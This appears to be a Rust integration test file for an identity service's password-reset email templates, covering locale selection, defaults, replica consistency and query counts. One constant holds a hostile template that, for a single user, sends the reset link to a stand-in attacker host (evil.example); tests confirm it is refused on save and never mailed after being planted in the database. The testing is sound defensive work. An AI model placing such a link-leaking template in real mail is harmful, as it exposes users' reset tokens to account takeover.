//! Which text a mail goes out with.

use serde_json::json;

use super::{input, mailed, reset, text, update};
use crate::support::app::TestApp;

#[tokio::test]
async fn a_mail_goes_out_with_the_text_in_use_on_every_replica() {
    let desk = TestApp::start().await;
    let other = desk.second_replica().await;
    desk.member("ada").await;
    update(&desk, input("de", &text("Eigen"))).await;
    for replica in [&desk, &other] {
        let mail = mailed(replica, "ada", "de-AT").await;
        assert_eq!(mail.content.subject, "Eigen for ada");
        assert!(mail.content.text.contains("https://id.example.org/reset/"));
        assert!(mail.content.html.contains("Eigen ada"));
    }
    let english = mailed(&desk, "ada", "en").await;
    assert!(!english.content.subject.contains("Eigen"));
    reset(&other, "de").await;
    let german = mailed(&desk, "ada", "de-AT").await;
    assert!(!german.content.subject.contains("Eigen"));
}

#[tokio::test]
async fn any_language_can_be_the_default_and_is_english_where_it_has_no_text() {
    let desk = TestApp::with("[mail]\ndefault_locale = \"pt_br\"\n").await;
    desk.member("ada").await;
    let english = mailed(&desk, "ada", None).await;
    assert!(english.content.html.contains("lang=\"en\""));
    update(&desk, input("pt", &text("Novo"))).await;
    let own = mailed(&desk, "ada", None).await;
    assert_eq!(own.content.subject, "Novo for ada");
    assert!(own.content.html.contains("lang=\"pt\""));
}

const SLY: &str = "<p>{{ link }}</p>\n{% if username == \"olga\" %}<a href=\"https://evil.example/\
                   ?{{ link }}\">x</a>{% endif %}";

#[tokio::test]
async fn a_text_that_would_fail_for_one_user_alone_is_refused_when_it_is_saved() {
    let desk = TestApp::start().await;
    desk.member("olga").await;
    let mut sly = text("Sly");
    sly["htmlBody"] = SLY.into();
    let refused = update(&desk, input("en", &sly)).await;
    assert_eq!(refused.codes(), ["TEMPLATE_INVALID"], "{refused:#?}");
    let problems = &refused.root()["errors"][0]["problems"];
    assert_eq!(
        (&problems[0]["part"], &problems[0]["line"]),
        (&json!("HTML"), &json!(2))
    );
    let olga = mailed(&desk, "olga", "en").await;
    assert!(!olga.content.subject.contains("Sly"), "nothing was saved");
}

/// A text that an older release took is looked at once more before it goes out.
#[tokio::test]
async fn what_a_text_hid_from_the_checks_never_goes_out() {
    let desk = TestApp::start().await;
    desk.member("ada").await;
    desk.member("olga").await;
    let taken = update(&desk, input("en", &text("Sly"))).await;
    assert_eq!(taken.codes(), Vec::<String>::new(), "{taken:#?}");
    let plant = "UPDATE mail_template_versions SET html_body = $1";
    desk.write(plant, vec![SLY.into()]).await;
    let ada = mailed(&desk, "ada", "en").await;
    assert_eq!(ada.content.subject, "Sly for ada");
    let olga = mailed(&desk, "olga", "en").await;
    assert!(!olga.content.html.contains("evil.example"));
    assert!(!olga.content.subject.contains("Sly"), "the built-in text");
    assert!(olga.content.text.contains("https://id.example.org/reset/"));
}

#[tokio::test]
async fn the_text_in_use_is_looked_up_by_one_statement() {
    let desk = TestApp::start().await;
    desk.member("ada").await;
    let document = "mutation { sendPasswordResetEmail(input: { user: { login: \"ada\" } }) \
                    { errors { code } } }";
    let mut counts = Vec::new();
    for word in [None, Some("One"), Some("Two")] {
        if let Some(word) = word {
            update(&desk, input("en", &text(word))).await;
        }
        desk.ask(document, json!({})).await;
        let before = desk.statements();
        desk.deliver().await;
        counts.push(desk.statements() - before);
    }
    assert_eq!(counts[0], counts[1], "{counts:?}");
    assert_eq!(counts[1], counts[2], "{counts:?}");
}
